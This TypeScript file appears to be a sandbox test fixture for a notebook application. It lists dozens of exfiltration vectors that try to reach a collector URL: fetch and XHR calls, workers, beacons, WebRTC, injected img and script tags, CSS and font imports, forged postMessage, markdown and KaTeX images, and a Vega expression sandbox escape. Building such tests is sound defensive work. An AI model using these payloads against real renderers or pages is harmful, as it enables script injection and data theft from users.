/**
 * Ways in which a notebook from a stranger could try to send something out. Each tries to reach `url`, where a
 * collector counts; `url` is distinct for each vector.
 */
export interface Vector {
  readonly name: string;
  /** `code` runs in a TypeScript cell; the others are shown as an output of that media type. */
  readonly as: "code" | "html" | "markdown" | "svg" | "vega" | "report";
  readonly payload: (url: string) => string;
}

const code = (name: string, payload: (url: string) => string): Vector => ({
  name,
  as: "code",
  payload,
});
const html = (name: string, payload: (url: string) => string): Vector => ({
  name,
  as: "html",
  payload,
});

const ws = (url: string): string => url.replace(/^http/u, "ws");

export const vectors: readonly Vector[] = [
  code("fetch", (u) => `await fetch("${u}").catch(() => {})`),
  code(
    "fetch-no-cors-post",
    (u) =>
      `await fetch("${u}", {method: "POST", mode: "no-cors", body: "x", keepalive: true}).catch(() => {})`,
  ),
  code(
    "xhr",
    (u) =>
      `await new Promise((r) => { try { const x = new XMLHttpRequest(); x.onloadend = r; x.open("GET", "${u}"); x.send(); } catch { r(0); } })`,
  ),
  code(
    "xhr-sync",
    (u) =>
      `try { const x = new XMLHttpRequest(); x.open("GET", "${u}", false); x.send(); } catch {}`,
  ),
  code(
    "websocket",
    (u) =>
      `await new Promise((r) => { try { const w = new WebSocket("${ws(u)}"); w.onerror = w.onopen = r; } catch { r(0); } })`,
  ),
  code(
    "event-source",
    (u) =>
      `await new Promise((r) => { try { const e = new EventSource("${u}"); e.onerror = e.onopen = () => { e.close(); r(0); }; } catch { r(0); } })`,
  ),
  code(
    "web-transport",
    (u) =>
      `try { await new (globalThis as any).WebTransport("${u.replace(/^http:/u, "https:")}").ready; } catch {}`,
  ),
  code("import-scripts", (u) => `try { (globalThis as any).importScripts("${u}"); } catch {}`),
  code(
    "import-url-in-blob",
    (u) =>
      `await (globalThis as any).eval?.call; const b = URL.createObjectURL(new Blob(["import '${u}'"], {type: "text/javascript"})); try { const w = new Worker(b, {type: "module"}); await new Promise((r) => { w.onerror = r; setTimeout(r, 300); }); } catch {}`,
  ),
  code("indirect-eval-fetch", (u) => `try { (0, eval)('fetch("${u}")'); } catch {}`),
  code(
    "new-function-import",
    (u) => `try { await new Function('return import("${u}")')(); } catch {}`,
  ),
  code("timeout-string", (u) => `try { (setTimeout as any)('fetch("${u}")', 0); } catch {}`),
  code("nested-worker-url", (u) => `try { new Worker("${u}"); } catch {}`),
  code(
    "nested-worker-blob",
    (u) =>
      `try { new Worker(URL.createObjectURL(new Blob(['fetch("${u}"); importScripts("${u}")']))); } catch {}`,
  ),
  code("shared-worker", (u) => `try { new (globalThis as any).SharedWorker("${u}"); } catch {}`),
  code("font-face", (u) => `try { await new FontFace("leak", "url(${u})").load(); } catch {}`),
  code("send-beacon", (u) => `try { (navigator as any).sendBeacon("${u}", "x"); } catch {}`),
  code(
    "fetch-later",
    (u) => `try { (globalThis as any).fetchLater("${u}", {activateAfter: 0}); } catch {}`,
  ),
  code(
    "location",
    (u) =>
      `try { (globalThis as any).location = "${u}"; } catch {} try { (globalThis as any).location.href = "${u}"; } catch {}`,
  ),
  code(
    "wasm-streaming",
    (u) => `try { await WebAssembly.compileStreaming(fetch("${u}")); } catch {}`,
  ),
  code(
    "service-worker",
    (u) => `try { await (navigator as any).serviceWorker.register("${u}"); } catch {}`,
  ),
  code(
    "rtc",
    (u) =>
      `try { const p = new (globalThis as any).RTCPeerConnection({iceServers: [{urls: "stun:" + new URL("${u}").host}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); } catch {}`,
  ),
  code(
    "css-paint",
    (u) => `try { (globalThis as any).document.body.innerHTML = '<img src="${u}">'; } catch {}`,
  ),
  code(
    "websocket-stream",
    (u) => `try { await new (globalThis as any).WebSocketStream("${ws(u)}").opened; } catch {}`,
  ),
  code(
    "image-bitmap",
    (u) => `try { const i = new (globalThis as any).Image(); i.src = "${u}"; } catch {}`,
  ),
  code("cache-add", (u) => `try { await (await caches.open("x")).add("${u}"); } catch {}`),
  code(
    "background-fetch",
    (u) =>
      `try { await (globalThis as any).registration.backgroundFetch.fetch("x", "${u}"); } catch {}`,
  ),
  code(
    "forged-html-output",
    (u) =>
      `postMessage({type: "output", cell: "x", run: 1, index: 0, bundle: {"text/html": '<img src="${u}"><script>fetch("${u}")</script>'}})`,
  ),
  code(
    "forged-navigation",
    (u) =>
      `postMessage({type: "connect", url: "${u}"}); postMessage({type: "worker-lost", reason: '<img src="${u}">'})`,
  ),
  code("error-with-html", (u) => `throw new Error('<img src="${u}">')`),
  code("log-with-html", (u) => `console.log('<img src="${u}">%c', "background: url(${u})")`),
  html("img", (u) => `<img src="${u}">`),
  html("img-srcset", (u) => `<img srcset="${u} 2x">`),
  html("img-onerror", (u) => `<img src="data:," onerror="fetch('${u}')">`),
  html("script-src", (u) => `<script src="${u}"></script>`),
  html("script-inline", (u) => `<script>fetch("${u}"); new Image().src = "${u}"</script>`),
  html("module-script", (u) => `<script type="module">import "${u}"</script>`),
  html("stylesheet", (u) => `<link rel="stylesheet" href="${u}">`),
  html("preload", (u) => `<link rel="preload" as="image" href="${u}">`),
  html("prefetch", (u) => `<link rel="prefetch" href="${u}">`),
  html("modulepreload", (u) => `<link rel="modulepreload" href="${u}">`),
  html("icon", (u) => `<link rel="icon" href="${u}">`),
  html("style-import", (u) => `<style>@import url("${u}");</style>`),
  html(
    "style-background",
    (u) => `<div style="background: url('${u}'); width: 9px; height: 9px">x</div>`,
  ),
  html(
    "font",
    (u) =>
      `<style>@font-face { font-family: leak; src: url("${u}"); } p { font-family: leak; }</style><p>x</p>`,
  ),
  html("iframe", (u) => `<iframe src="${u}"></iframe>`),
  html(
    "iframe-srcdoc",
    (u) => `<iframe srcdoc="<img src='${u}'><script>fetch('${u}')</script>"></iframe>`,
  ),
  html("object", (u) => `<object data="${u}"></object>`),
  html("embed", (u) => `<embed src="${u}">`),
  html("video", (u) => `<video src="${u}" autoplay poster="${u}"></video>`),
  html("audio", (u) => `<audio src="${u}" autoplay></audio>`),
  html("source", (u) => `<picture><source srcset="${u}"><img src="data:,"></picture>`),
  html("meta-refresh", (u) => `<meta http-equiv="refresh" content="0; url=${u}">`),
  html("base", (u) => `<base href="${u}/"><img src="relative.png">`),
  html("svg-image", (u) => `<svg><image href="${u}" width="9" height="9"/></svg>`),
  html("svg-use", (u) => `<svg><use href="${u}#x"/></svg>`),
  html("input-image", (u) => `<input type="image" src="${u}">`),
  html("body-background", (u) => `<body background="${u}">x`),
  html(
    "form",
    (u) =>
      `<form action="${u}" id="f"><input autofocus onfocus="document.forms[0].submit()"></form>`,
  ),
  html("break-out", (u) => `"></iframe><img src="${u}"><iframe srcdoc="`),
  { name: "markdown-image", as: "markdown", payload: (u) => `![x](${u})` },
  {
    name: "markdown-html",
    as: "markdown",
    payload: (u) => `<img src="${u}"> <script>fetch("${u}")</script>`,
  },
  {
    name: "markdown-link-image",
    as: "markdown",
    payload: (u) => `[![x](${u})](javascript:fetch('${u}'))`,
  },
  {
    name: "katex-image",
    as: "markdown",
    payload: (u) =>
      `$\\includegraphics{${u}}$ $\\htmlStyle{background:url(${u})}{x}$ $\\href{${u}}{x}$`,
  },
  {
    name: "svg-output-image",
    as: "svg",
    payload: (u) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="${u}" width="9" height="9"/></svg>`,
  },
  {
    name: "svg-output-script",
    as: "svg",
    payload: (u) =>
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${u}')"><script>fetch("${u}")</script><style>@import url("${u}");</style></svg>`,
  },
  {
    name: "vega-data-url",
    as: "vega",
    payload: (u) => JSON.stringify({ data: { url: u }, mark: "point", encoding: {} }),
  },
  {
    name: "vega-image-mark",
    as: "vega",
    payload: (u) =>
      JSON.stringify({
        data: { values: [{ u }] },
        mark: "image",
        encoding: { url: { field: "u" }, x: { value: 5 }, y: { value: 5 } },
      }),
  },
  {
    name: "vega-href",
    as: "vega",
    payload: (u) =>
      JSON.stringify({
        data: { values: [{ u }] },
        mark: { type: "point", href: u },
        encoding: { href: { field: "u" } },
      }),
  },
  {
    name: "vega-expression",
    as: "vega",
    payload: (u) =>
      JSON.stringify({
        data: { values: [{ x: 1 }] },
        transform: [{ calculate: `constructor.constructor('fetch("${u}")')()`, as: "y" }],
        mark: "point",
        encoding: { x: { field: "y" } },
      }),
  },
  {
    name: "vega-config-font",
    as: "vega",
    payload: (u) =>
      JSON.stringify({
        data: { values: [{ x: 1 }] },
        mark: { type: "text", font: `x; background: url(${u})` },
        encoding: { text: { field: "x" } },
        usermeta: { embedOptions: { loader: { baseURL: u } } },
      }),
  },
  {
    name: "report-text",
    as: "report",
    payload: (u) =>
      JSON.stringify([
        { kind: "text", text: `<img src="${u}"> ![x](${u})` },
        { kind: "formula", latex: `\\includegraphics{${u}}`, text: `<img src="${u}">` },
      ]),
  },
  {
    name: "report-graph",
    as: "report",
    payload: (u) =>
      JSON.stringify([
        {
          kind: "graph",
          nodes: [{ name: `<img src="${u}">`, role: "plain" }],
          edges: [],
          summary: `<img src="${u}">`,
        },
      ]),
  },
  {
    name: "report-table",
    as: "report",
    payload: (u) =>
      JSON.stringify([
        {
          kind: "table",
          columns: [{ label: `<img src="${u}">` }],
          rows: [[`<script>fetch("${u}")</script>`]],
        },
        { kind: "notice", tone: "info", title: `<img src="${u}">`, text: `![x](${u})` },
      ]),
  },
  {
    name: "report-chart",
    as: "report",
    payload: (u) =>
      JSON.stringify([
        { kind: "chart", spec: { data: { url: u }, mark: "point" }, summary: `<img src="${u}">` },
      ]),
  },
];

/** The cell that carries a vector. */
export function cellOf(vector: Vector, url: string): string {
  const payload = vector.payload(url);
  const quoted = JSON.stringify(payload);
  switch (vector.as) {
    case "code":
      return payload;
    case "html":
      return `display({kind: "displayable", bundle: {"text/plain": "x", "text/html": ${quoted}}})`;
    case "markdown":
      return `display({kind: "displayable", bundle: {"text/plain": "x", "text/markdown": ${quoted}}})`;
    case "svg":
      return `display({kind: "displayable", bundle: {"text/plain": "x", "image/svg+xml": ${quoted}}})`;
    case "vega":
      return `display({kind: "displayable", bundle: {"text/plain": "x", "application/vnd.vegalite.v6+json": JSON.parse(${quoted})}})`;
    case "report":
      return `display({kind: "displayable", bundle: {"text/plain": "x", "application/vnd.dagbok.report+json": {summary: "x", blocks: JSON.parse(${quoted})}}})`;
  }
}
